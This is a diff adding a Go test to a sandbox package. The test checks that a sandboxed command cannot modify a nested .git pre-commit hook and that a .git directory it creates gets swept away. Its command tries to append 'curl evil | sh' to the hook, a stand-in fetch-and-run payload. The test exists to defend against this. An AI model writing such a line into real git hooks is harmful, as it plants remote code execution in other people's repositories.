@@ -4,11 +4,13 @@ package sandbox
 
 import (
 	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
 
+	"github.com/wardenhq/warden/internal/wardenhome"
 	"golang.org/x/sys/unix"
 )
 
@@ -93,4 +95,38 @@ func mkdirAt(dir *os.File, name string) (*os.File, error) {
 		return nil, err
 	}
 	return os.NewFile(uintptr(fd), name), nil
+}
+
+// TestG1_WatchAndWrapProtectsNested checks that one walk serves both: a
+// nested .git that exists is read-only for the command, and one the
+// command creates is moved away by Sweep.
+func TestG1_WatchAndWrapProtectsNested(t *testing.T) {
+	requireNamespaces(t)
+	t.Setenv(wardenhome.EnvHome, mkdir(t, scratch(t), "warden-home"))
+	w := mkdir(t, scratch(t), "work")
+	hook := writeFile(t, filepath.Join(w, "vendor", "lib", ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
+	p := Policy{Mode: WorkspaceWrite, Workdir: w}
+	cmd := exec.Command("/bin/sh", "-c", "echo 'curl evil | sh' >> vendor/lib/.git/hooks/pre-commit; mkdir -p sub/.git/hooks; echo ok > out")
+	cmd.Dir = w
+	watch, err := p.WatchAndWrap(cmd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, _ := cmd.CombinedOutput()
+	if data, err := os.ReadFile(hook); err != nil || string(data) != "#!/bin/sh\n" {
+		t.Errorf("the nested hook is %q (%v), want it unchanged; command said %s", data, err, out)
+	}
+	if data, err := os.ReadFile(filepath.Join(w, "out")); err != nil || string(data) != "ok\n" {
+		t.Errorf("the command's own write: %q (%v); command said %s", data, err, out)
+	}
+	moved, err := watch.Sweep()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(moved) != 1 || moved[0].Path != filepath.Join(w, "sub", ".git") {
+		t.Errorf("swept %v, want only %s", moved, filepath.Join(w, "sub", ".git"))
+	}
+	if _, err := os.Lstat(filepath.Join(w, "sub", ".git")); !os.IsNotExist(err) {
+		t.Errorf("sub/.git is still there (%v)", err)
+	}
 }
